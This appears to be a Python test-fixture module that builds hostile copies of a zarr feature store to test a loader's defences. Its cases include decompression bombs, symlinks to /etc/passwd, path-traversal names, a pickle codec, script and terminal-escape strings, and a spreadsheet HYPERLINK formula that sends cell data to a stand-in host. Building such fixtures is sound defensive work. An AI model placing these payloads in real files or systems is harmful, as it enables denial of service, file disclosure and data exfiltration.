"""Hostile copies of a good feature store, as a malicious colleague would make them, with checksums that fit."""

import hashlib
import json
import math
import os
import shutil
import struct
from collections.abc import Callable
from pathlib import Path

import numpy as np
from numcodecs.zstd import compress

Edit = Callable[[Path], object]
CLIPS, SHAPES = None, ("shape", "chunks")
NAN, DEEP, X = math.nan, 200_000, "<script>alert(1)</script>\"'\x1b[31m\u202e=1+1"


def seal(store: Path) -> None:
    """Make COMPLETE.json fit what is there."""
    files = {}
    for path in sorted(store.rglob("*")):
        name = path.relative_to(store).as_posix()
        if path.is_file() and name not in ("COMPLETE.json", "RUN.json"):
            data = path.read_bytes()
            files[name] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    (store / "COMPLETE.json").write_text(json.dumps({"schema": 1, "files": files}))


def hostile(store: Path, folder: Path, kind: str) -> Path:
    """Copy a store into ``folder``, under its name, and make it hostile; return its path."""
    copy = folder / store.name
    shutil.copytree(store, copy)
    SEALED.get(kind, UNSEALED.get(kind))(copy)
    if kind in SEALED:
        seal(copy)
    return copy


def edit(store: Path, change: Callable[[dict], object]) -> None:
    """Change what zarr.json says."""
    document = json.loads((store / "zarr.json").read_text())
    change(document)
    (store / "zarr.json").write_text(json.dumps(document))


def attribute(name: str, value: object) -> Edit:
    """Set an attribute."""
    return lambda store: edit(store, lambda document: document["attributes"].__setitem__(name, value))


def array(name: str, **members: object) -> Edit:
    """Set what is said of an array; ``chunks`` is its chunks' shape, and CLIPS in a shape as many as there are."""

    def change(document: dict) -> None:
        arrays = document["consolidated_metadata"]["metadata"]
        (clips,) = arrays["label"]["shape"]
        told = {
            key: [clips if size is CLIPS else size for size in value] if key in SHAPES else value
            for key, value in members.items()
        }
        if "chunks" in told:
            arrays[name]["chunk_grid"]["configuration"]["chunk_shape"] = told.pop("chunks")
        arrays[name].update(told)

    return lambda store: edit(store, change)


def several(*edits: Edit) -> Edit:
    """Do one edit after the other."""
    return lambda store: [each(store) for each in edits]


def chunk(name: str, content: bytes) -> Edit:
    """Replace an encoded chunk."""
    return lambda store: (store / name).write_bytes(content)


def labels(value: int) -> Edit:
    """Give every clip the same label."""

    def change(store: Path) -> None:
        size = json.loads((store / "zarr.json").read_text())["consolidated_metadata"]["metadata"]["label"]["shape"][0]
        (store / "label/c/0").write_bytes(compress(np.full(size, value, "<i2").tobytes()))

    return change


def values(name: str, change: Callable[[np.ndarray], object]) -> Edit:
    """Change an array's values with zarr itself."""

    def rewrite(store: Path) -> None:
        import zarr

        opened = zarr.open_group(store, mode="r+", use_consolidated=False)[name]
        read = opened[:]
        change(read)
        opened[:] = read

    return rewrite


def document(name: str, content: str | bytes) -> Edit:
    """Replace a document of the store."""
    return lambda store: (store / name).write_bytes(content if isinstance(content, bytes) else content.encode())


def sparse(name: str, size: int) -> Edit:
    """Make a file as large as no disk is."""

    def change(store: Path) -> None:
        with (store / name).open("wb") as file:
            file.truncate(size)

    return change


def pipe(name: str) -> Edit:
    """Replace a file by a pipe that nobody writes into."""

    def change(store: Path) -> None:
        (store / name).unlink(missing_ok=True)
        os.mkfifo(store / name)

    return change


def link(name: str, target: str) -> Edit:
    """Replace a file or folder by a link."""

    def change(store: Path) -> None:
        path = store / name
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        path.symlink_to(target)

    return change


def listed(name: str, size: int = 3) -> Edit:
    """Add a file, or change its size, in COMPLETE.json."""

    def change(store: Path) -> None:
        found = json.loads((store / "COMPLETE.json").read_text())
        entry = found["files"].get(name, {"sha256": "0" * 64})
        found["files"][name] = entry | {"bytes": size}
        (store / "COMPLETE.json").write_text(json.dumps(found))

    return change


def same(read: np.ndarray) -> None:
    """Make all ids equal."""
    read[:] = "same"


def formulas(read: np.ndarray) -> None:
    """Make ids that a spreadsheet would compute."""
    read[:] = [f'=HYPERLINK("http://x/?"&A1,"{place}")' for place in range(len(read))]


BOMB = compress(bytes(400_000_000))
UNSIZED = bytes([0x28, 0xB5, 0x2F, 0xFD, 0, 0x58]) + bytes(40)  # a zstd frame that does not tell its size
RECORD = {"finished": {"a": 1}, "host": [1], "command": {"x": 2}, "failed": 3}
# What checksums vouch for; the second part of each is none of a store's.
SEALED: dict[str, Edit] = {
    "huge chunk": array("label", shape=[10**10], chunks=[10**10]),
    "huge shape": several(*(array(name, shape=[10**9]) for name in ("clip_id", "status"))),
    "huge width": array("visual", shape=[CLIPS, 30, 50_000_000], chunks=[CLIPS, 30, 50_000_000]),
    "huge width, small chunks": array("visual", shape=[CLIPS, 30, 50_000_000], chunks=[1, 1, 100]),
    "no clips": several(*(array(name, shape=[0]) for name in ("clip_id", "status"))),
    "zstd bomb": chunk("label/c/0", BOMB),
    "zstd bomb of texts": chunk("status/c/0", BOMB),
    "zstd of no size": chunk("label/c/0", UNSIZED),
    "blosc bomb": chunk("visual/c/0/0/0", struct.pack("<BBBBIII", 2, 1, 0x21, 2, 2**31 - 100, 2**18, 64) + bytes(48)),
    "2^31 texts": chunk("clip_id/c/0", compress(struct.pack("<I", 2**31 - 1) + bytes(64))),
    "one long text": chunk("status/c/0", compress(struct.pack("<II", 36, 60_000_000) + b"x" * 60_000_000 + bytes(140))),
    "noise": chunk("label/c/0", bytes(range(256))),
    "noise in features": chunk("visual/c/0/0/0", bytes(range(256)) * 4),
    "empty chunk": chunk("clip_id/c/0", b""),
    "pickle": array("clip_id", codecs=[{"name": "numcodecs.pickle", "configuration": {}}]),
    "unknown codec": array("label", codecs=[{"name": "bytes"}, {"name": "numcodecs.lzma", "configuration": {}}]),
    "codecs of a wrong type": array("label", codecs={"a": 1}),
    "object": array("clip_id", data_type="object"),
    "other type": array("visual", data_type="float64"),
    "other fill value": array("label", fill_value={"a": [1]}),
    "other keys": array("label", chunk_key_encoding={"name": "v2", "configuration": {"separator": "."}}),
    "other dimensions": array("label", dimension_names=["clip", "clip"]),
    "wrong shape": array("present", shape=[CLIPS, 5], chunks=[CLIPS, 5]),
    "shorter column": array("subject", shape=[3]),
    "array absent": lambda store: edit(store, lambda d: d["consolidated_metadata"]["metadata"].pop("split")),
    "group in it": array("subject", node_type="group"),
    "array outside": lambda store: edit(
        store,
        lambda d: d["consolidated_metadata"]["metadata"].update(
            {"../../x": d["consolidated_metadata"]["metadata"]["subject"]}
        ),
    ),
    "no metadata": lambda store: edit(store, lambda d: d.pop("consolidated_metadata")),
    "labels above": labels(999),
    "labels below": labels(-5),
    "split of 7": values("split", lambda read: read.fill(7)),
    "same ids": values("clip_id", same),
    "other status": values("status", same),
    "infinite": values("visual", lambda read: read.fill(np.inf)),
    "formulas": values("clip_id", formulas),
    "escapes": several(
        attribute("classes", [X + str(place) for place in range(8)]),
        attribute("weights", {"name": X, "hash": X}),
        attribute("versions", {X: X}),
        document("RUN.json", json.dumps(dict.fromkeys(("command", "host", "finished", "started"), X))),
    ),
    "deep": document("zarr.json", '{"attributes":' + "[" * DEEP + "]" * DEEP + "}"),
    "deep spec": attribute("spec", json.loads("[" * 500 + "]" * 500)),
    "big number": document("zarr.json", '{"attributes":{"schema":' + "9" * 6000 + "}}"),
    "no number": attribute("revision", NAN),
    "lone surrogate": attribute("dataset", "\ud800"),
    "a list": document("zarr.json", "[1, 2]"),
    "many values": document("zarr.json", '{"attributes":[' + "[]," * 1_300_000 + "0]}"),
    "large": document("zarr.json", '{"attributes":"' + "x" * 5_000_000 + '"}'),
    "modalities 5": attribute("modalities", 5),
    "modalities none": attribute("modalities", []),
    "modalities outside": attribute("modalities", ["visual", "../../x"]),
    "modalities of labels": attribute("modalities", ["visual", "label"]),
    "classes null": attribute("classes", None),
    "classes twice": attribute("classes", ["a"] * 8),
    "classes one": attribute("classes", ["a"]),
    "revision text": attribute("revision", "x"),
    "revision true": attribute("revision", True),
    "dataset list": attribute("dataset", ["q"]),
    "dataset object": attribute("dataset", {"q": 1}),
    "features null": attribute("features", None),
    "media": attribute("features", "media"),
    "weights list": attribute("weights", ["x"]),
    "weights text": attribute("weights", "boo"),
    "settings null": attribute("settings", None),
    "spec list": attribute("spec", [1]),
    "backbone list": attribute("spec", {"backbone": [1]}),
    "versions of lists": attribute("versions", {"torch": [1]}),
    "synthetic text": attribute("synthetic", "no"),
    "record deep": document("RUN.json", "[" * DEEP + "]" * DEEP),
    "record types": document("RUN.json", json.dumps(RECORD)),
    "record linked": link("RUN.json", "/etc/hostname"),
    "chunk linked": link("visual/c/0/0/0", "/etc/passwd"),
    "table linked": link("label/c/0", "/etc/passwd"),
}
UNSEALED: dict[str, Edit] = {
    **{f"pipe as {name}": pipe(name) for name in ("RUN.json", "zarr.json", "COMPLETE.json", "PUSHING.json")},
    "pipe as labels": pipe("label/c/0"),
    "pipe as features": pipe("visual/c/0/0/0"),
    "folder linked": link("visual", "/etc"),
    "COMPLETE.json linked": link("COMPLETE.json", "/etc/passwd"),
    **{f"1 TB {name}": sparse(name, 10**12) for name in ("RUN.json", "zarr.json", "COMPLETE.json", "visual/c/0/0/0")},
    "1 TB recorded": several(sparse("visual/c/0/0/0", 10**12), listed("visual/c/0/0/0", 10**12)),
    "10^18 bytes recorded": listed("visual/c/0/0/0", 10**18),
    "checksums deep": document("COMPLETE.json", "[" * DEEP),
    "checksums list": document("COMPLETE.json", '{"files": [1]}'),
    "checksums of many values": document("COMPLETE.json", '{"files": [' + "1.5," * 3_000_000 + "0]}"),
    "checksums of none": document("COMPLETE.json", '{"files": {}}'),
    "checksum absent": lambda store: document(
        "COMPLETE.json", (store / "COMPLETE.json").read_text().replace('"label/c/0"', '"label/c/1"')
    )(store),
    "extra": document("evil.py", "x"),
    **{
        f"names {name!r}": listed(name)
        for name in (
            "../../PWN",
            "/tmp/PWN",
            "a/../../PWN",
            "visual/c/0/0/0/x",
            "COMPLETE.json",
            "x\n",
            "a\\..\\b",
            ".",
        )
    },
}
HARMLESS = {  # such a store may be used
    *("infinite", "formulas", "escapes", "record deep", "record types", "record linked", "extra", "1 TB RUN.json"),
    *("pipe as RUN.json", "pipe as PUSHING.json"),
}
IN_FEATURES = {  # found when the features are read
    *("blosc bomb", "noise in features", "chunk linked", "pipe as features", "folder linked", "1 TB visual/c/0/0/0"),
}
KINDS = (*SEALED, *UNSEALED)
